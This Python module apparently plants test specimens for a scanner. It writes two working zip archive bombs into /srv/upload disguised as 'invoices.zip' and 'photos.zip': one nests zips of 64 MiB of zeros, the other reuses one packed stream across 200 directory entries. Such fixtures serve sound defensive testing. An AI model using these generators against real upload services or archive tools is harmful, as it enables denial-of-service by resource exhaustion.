"""Plants two archive bombs of a few kilobytes: one that nests, one whose entries share their packed bytes."""

import io
import struct
import zipfile
import zlib
from pathlib import Path

from quetsach.packs.specimen import Planted
from quetsach.packs.specimen.innocent import plant_infected, plant_mac

_ZEROS = 64 << 20
_COPIES = 5


def build_linux(root: Path) -> list[Planted]:
    """Plant the files on a Linux."""
    return build(root)


def build_macos(root: Path) -> list[Planted]:
    """Plant the files on a Mac."""
    plant_mac(root)
    return build(root)


def build_windows(root: Path) -> list[Planted]:
    """Plant the files on a Windows."""
    plant_infected(root)
    return build(root)


def build(root: Path) -> list[Planted]:
    """Plant the files below ``root``."""
    folder = root / "srv" / "upload"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "invoices.zip").write_bytes(nested(_ZEROS, _COPIES))
    (folder / "photos.zip").write_bytes(overlapping(1 << 20, 200))
    return [
        Planted(kind="file", path="/srv/upload/invoices.zip"),
        Planted(kind="file", path="/srv/upload/photos.zip"),
    ]


def nested(zeros: int, copies: int) -> bytes:
    """Return a zip with copies of a zip with a file of zeros: packed twice, even that is small."""
    inner = _zip({"0": bytes(zeros)})
    return _zip({f"{number}.zip": inner for number in range(copies)})


def _zip(members: dict[str, bytes]) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, member in members.items():
            archive.writestr(zipfile.ZipInfo(name), member, zipfile.ZIP_DEFLATED)
    return content.getvalue()


def overlapping(zeros: int, entries: int) -> bytes:
    """Return a zip whose directory names the same packed zeros many times (APPNOTE.TXT, 4.3.7, 4.3.12, 4.3.16)."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    packed = deflate.compress(bytes(zeros)) + deflate.flush()
    told = struct.pack("<HHHHHIII", 20, 0, 8, 0, 0x21, zlib.crc32(bytes(zeros)), len(packed), zeros)
    local = b"PK\3\4" + told + struct.pack("<HH", 3, 0) + b"000" + packed
    directory = b"".join(
        b"PK\1\2" + struct.pack("<H", 20) + told + struct.pack("<HHHHHII", 3, 0, 0, 0, 0, 0, 0) + b"%03d" % number
        for number in range(entries)
    )
    end = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, entries, entries, len(directory), len(local), 0)
    return local + directory + end
